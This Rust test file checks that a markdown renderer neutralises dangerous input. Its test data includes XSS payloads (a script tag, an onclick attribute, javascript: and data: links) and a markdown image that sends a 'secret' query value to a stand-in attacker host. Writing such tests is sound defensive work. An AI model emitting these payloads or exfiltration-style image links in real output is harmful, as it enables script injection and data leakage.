//! What markdown becomes, and what it must never become.
use super::*;
use expect_test::{Expect, expect};

fn show(nodes: &[Node], out: &mut String) {
    for node in nodes {
        match node {
            Node::Text(text) => out.push_str(&text.replace('\n', "⏎")),
            Node::Element(name, children) => wrap(name, children, out),
            Node::Numbered(first, children) => wrap(&format!("ol {first}"), children, out),
            Node::Cell(name, align, children) => wrap(format!("{name} {align}").trim_end(), children, out),
            Node::Link(address, children) => wrap(&format!("a {address}"), children, out),
            Node::Inert(children, address) => wrap(&format!("inert {address}"), children, out),
            Node::Picture(alt, address) => out.push_str(&format!("[picture {alt} {address}]")),
            Node::Code(language, text) => out.push_str(&format!("[code {language} {}]", text.replace('\n', "⏎"))),
            Node::Checkbox(done) => out.push_str(if *done { "[x]" } else { "[ ]" }),
        }
    }
}

fn wrap(name: &str, children: &[Node], out: &mut String) {
    out.push_str(&format!("({name}: "));
    show(children, out);
    out.push(')');
}

#[expect(clippy::needless_pass_by_value, reason = "expect! makes a value")]
fn check(text: &str, tree: Expect) {
    let mut out = String::new();
    show(&parse(text), &mut out);
    tree.assert_eq(&out);
}

#[test]
fn raw_html_is_text() {
    check("a <b onclick=x>b</b>", expect!["(p: a <b onclick=x>b</b>)"]);
    check("<script>alert(1)</script>\n\nafter", expect!["(p: <script>alert(1)</script>⏎)(p: after)"]);
    check("<img src=https://evil.test/a.png>", expect!["(p: <img src=https://evil.test/a.png>)"]);
}

#[test]
fn a_picture_is_words_and_an_address() {
    check("![a *cat*](https://evil.test/?q=secret)", expect!["(p: [picture a cat https://evil.test/?q=secret])"]);
    check("![](data:image/png;base64,AA)", expect!["(p: [picture  data:image/png;base64,AA])"]);
    check(
        "[![in a link](https://a.test/i.png)](https://b.test)",
        expect!["(p: (a https://b.test: [picture in a link https://a.test/i.png]))"],
    );
}

#[test]
fn only_web_links_lead_anywhere() {
    check("[a](https://a.test/x?y#z)", expect!["(p: (a https://a.test/x?y#z: a))"]);
    check("[a](HTTP://a.test)", expect!["(p: (a HTTP://a.test: a))"]);
    check("[a](javascript:alert(1))", expect!["(p: (inert javascript:alert(1): a))"]);
    check("[a](JaVaScRiPt:alert(1))", expect!["(p: (inert JaVaScRiPt:alert(1): a))"]);
    check("[a](data:text/html,x)", expect!["(p: (inert data:text/html,x: a))"]);
    check("[a](chrome://settings)", expect!["(p: (inert chrome://settings: a))"]);
    check("[a](//a.test)", expect!["(p: (inert //a.test: a))"]);
    check("<mailto:a@b.test>", expect!["(p: (inert mailto:a@b.test: mailto:a@b.test))"]);
    check("[a]( <https://a.test/ b>)", expect!["(p: (inert https://a.test/ b: a))"]);
}

#[test]
fn characters_that_hide_an_address_make_it_inert() {
    assert_eq!(safe_address("https://a.test\u{0}"), None);
    assert_eq!(safe_address("\u{1}https://a.test"), None);
    assert_eq!(safe_address("https://"), None);
    assert_eq!(safe_address("ä"), None);
    assert_eq!(safe_address("https://ä.test"), Some("https://ä.test"));
}

#[test]
fn tables_have_a_head_and_keep_their_alignment() {
    check(
        "| a | b |\n|:-|-:|\n| 1 | 2 |\n| 3 |\n",
        expect!["(table: (thead: (tr: (th left: a)(th right: b)))(tr: (td left: 1)(td right: 2))(tr: (td left: 3)(td right: )))"],
    );
}

#[test]
fn code_keeps_its_language_and_is_never_markup() {
    check("```rust ignore\nlet a = \"<b>\";\n```", expect![[r#"[code rust let a = "<b>";⏎]"#]]);
    check("    indented", expect!["[code  indented]"]);
    check("`<i>`", expect!["(p: (code: <i>))"]);
    check("```\nstill streaming", expect!["[code  still streaming]"]);
}

#[test]
fn lists_headings_and_tasks() {
    check("3. a\n4. b", expect!["(ol 3: (li: a)(li: b))"]);
    check("# a\n\n- [x] b\n- [ ] c", expect!["(h3: a)(ul: (li: [x]b)(li: [ ]c))"]);
}

#[test]
fn nesting_without_end_is_drawn_flat() {
    let nodes = parse(&(">".repeat(50_000) + "deep"));
    let mut depth = 0;
    let mut here = nodes.as_slice();
    while let [Node::Element(_, children)] = here {
        depth += 1;
        here = children;
    }
    assert_eq!(depth, DEPTH_MAX);
    assert_eq!(here, [Node::Text("deep".into())]);
}
